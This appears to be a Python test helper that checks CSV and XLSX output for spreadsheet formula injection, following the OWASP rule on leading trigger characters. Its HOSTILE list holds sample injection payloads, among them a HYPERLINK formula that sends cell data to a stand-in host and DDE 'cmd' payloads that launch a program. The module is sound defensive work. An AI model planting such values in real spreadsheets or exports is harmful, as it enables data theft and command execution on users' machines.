"""An independent check of a written file: would a spreadsheet find a formula in it?

Written from the OWASP rule, not from vawg.outputs: a CSV field must not begin — after any blanks a
spreadsheet may trim — with ``= + - @``, tab or CR, unless it is a plain number such as ``-3``; an
XLSX must hold no formula cell and no text cell that begins so.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from openpyxl import load_workbook

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")
BLANKS = " \t\r\n\x00\x01\x02\x03\x1f\u200b\ufeff\u3000\xa0"

# Values an attacker can put in a bundle: each would be live in a spreadsheet if written raw.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "a;=1+1",
    "＝1+1",
)


def dangerous(field: str) -> bool:
    """Whether ``field`` would be read as a formula (a leading trigger, blanks trimmed, not a number)."""
    if NUMBER.match(field):
        return False
    stripped = field.lstrip(BLANKS)
    return field.startswith(TRIGGERS) or stripped.startswith(TRIGGERS)


def csv_problems(path: Path) -> list[str]:
    """Every dangerous field of the CSV at ``path`` (read as RFC 4180 says)."""
    text = path.read_text(encoding="utf-8")
    problems = []
    for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), 1):
        problems += [f"record {number}: {f!r}" for f in row if dangerous(f)]
    return problems


def xlsx_problems(path: Path) -> list[str]:
    """Every formula cell, and every text cell that begins with a trigger, in every sheet."""
    problems = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate}: formula {cell.value!r}")
                elif isinstance(cell.value, str) and dangerous(cell.value):
                    problems.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return problems
